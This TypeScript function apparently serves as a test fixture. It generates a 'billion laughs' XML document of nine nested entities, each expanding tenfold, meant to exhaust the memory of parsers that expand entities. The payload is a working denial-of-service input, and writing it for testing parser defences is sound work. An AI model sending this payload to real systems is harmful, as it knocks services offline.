/** What a parser that expands entities dies of. */
export function entityBomb(root: string): string {
  const levels = Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  );
  return `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY l0 "lol">${levels.join('')}]><${root}>&l9;</${root}>`;
}
